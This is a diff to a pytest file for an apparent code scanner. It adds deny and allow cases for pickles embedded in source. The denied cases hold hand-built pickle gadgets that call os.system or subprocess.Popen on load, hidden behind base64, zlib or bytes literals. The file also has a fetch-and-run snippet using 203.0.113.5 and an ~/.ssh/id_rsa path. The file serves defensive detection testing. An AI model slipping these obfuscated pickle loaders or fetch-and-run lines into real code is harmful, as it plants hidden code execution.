@@ -9,6 +9,10 @@ downloaders, crawlers, thread pools and power tools do."""
 from __future__ import annotations
 
 import ast
+import base64
+import collections
+import pickle
+import zlib
 
 import pytest
 
@@ -23,6 +27,22 @@ SSH_KEY = "os.path.expanduser('~/.ssh/id_rsa')"
 FETCH = "import os, requests\ndef fetch():\n    r = requests.get('https://203.0.113.5/s.bin')\n"
 RUN = "    os.system('/tmp/s.bin')\n"
 POOL = "from concurrent.futures import ThreadPoolExecutor\nex = ThreadPoolExecutor(10000)\n"
+
+
+def gadget(module: str, name: str) -> bytes:
+    """A protocol 2 pickle calling ``module.name('id')`` when loaded, written by hand
+    (inert: it is only read)."""
+    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"X\x02\x00\x00\x00id\x85R."
+
+
+def b64(data: bytes) -> str:
+    return base64.b64encode(data).decode()
+
+
+SYSTEM = gadget("os", "system")
+POPEN = gadget("subprocess", "Popen")
+DATA = pickle.dumps({"a": [1, 2, 3]}, protocol=2)
+ORDERED = pickle.dumps(collections.OrderedDict(a=1), protocol=2)
 
 DENIED: dict[str, dict[str, str]] = {
     # 1. The method kept in a name, or reached by ``getattr`` of an expression: still the
@@ -68,6 +88,31 @@ DENIED: dict[str, dict[str, str]] = {
     ),
     "executor-submits-of-a-partner-calling-back-on-import": init(
         POOL + "def a():\n    ex.submit(b)\n    ex.submit(b)\ndef b():\n    a()\na()\n"
+    ),
+    # 6. A pickle kept in the source (base64, zlib, a bytes literal) that calls a gadget,
+    # loaded when called, or wrapped in a stream first: denied as the member it could be.
+    "base64-pickle-calling-system-loaded-when-called": init(
+        f"import base64, pickle\nB = '{b64(SYSTEM)}'\n"
+        "def settings():\n    return pickle.loads(base64.b64decode(B))\n"
+    ),
+    "zlib-pickle-calling-popen-loaded-when-called": init(
+        f"import base64, pickle, zlib\nB = '{b64(zlib.compress(POPEN))}'\n"
+        "def settings():\n    return pickle.loads(zlib.decompress(base64.b64decode(B)))\n"
+    ),
+    "bytes-literal-pickle-loaded-by-c-pickle-when-called": init(
+        f"import _pickle\nB = {SYSTEM!r}\ndef settings():\n    return _pickle.loads(B)\n"
+    ),
+    "base64-pickle-loaded-from-a-stream-on-import": init(
+        f"import base64, io, pickle\nB = '{b64(SYSTEM)}'\n"
+        "SETTINGS = pickle.load(io.BytesIO(base64.b64decode(B)))\n"
+    ),
+    "base64-pickle-loaded-by-an-unpickler-on-import": init(
+        f"import base64, pickle\nfrom io import BytesIO\nB = '{b64(POPEN)}'\n"
+        "SETTINGS = pickle.Unpickler(BytesIO(base64.b64decode(B))).load()\n"
+    ),
+    "base64-pickle-loaded-by-joblib-from-a-stream-when-called": init(
+        f"import base64, io, joblib\nB = '{b64(SYSTEM)}'\n"
+        "def model():\n    return joblib.load(io.BytesIO(base64.b64decode(B)))\n"
     ),
     # 4. The machine put to sleep (hibernated) by Windows' own calls or its command.
     "set-suspend-state-through-windll-on-import": init(
@@ -158,6 +203,23 @@ ALLOWED: dict[str, dict[str, str]] = {
     ),
     "partner-that-never-calls-back-on-import": init(
         POOL + "def a(_):\n    ex.map(b, [0, 0])\ndef b(n):\n    print(n)\na(0)\n"
+    ),
+    # 6. Pickled data kept in the source and loaded when called, or from a stream.
+    "base64-pickle-of-data-loaded-when-called": init(
+        f"import base64, pickle\nB = '{b64(DATA)}'\n"
+        "def settings():\n    return pickle.loads(base64.b64decode(B))\n"
+    ),
+    "base64-pickle-of-data-loaded-from-a-stream-on-import": init(
+        f"import base64, io, pickle\nB = '{b64(DATA)}'\n"
+        "SETTINGS = pickle.load(io.BytesIO(base64.b64decode(B)))\n"
+    ),
+    "pickle-of-an-ordered-dict-loaded-when-called": init(
+        "import base64, collections, pickle\n"
+        f"B = '{b64(ORDERED)}'\n"
+        "def settings():\n    return pickle.loads(base64.b64decode(B))\n"
+    ),
+    "stream-of-a-gadget-pickle-never-loaded": init(
+        f"import base64, io\nB = '{b64(SYSTEM)}'\nRAW = io.BytesIO(base64.b64decode(B)).read()\n"
     ),
     # 4. Power calls that keep the machine awake or are only named.
     "keep-awake-while-training-on-import": init(
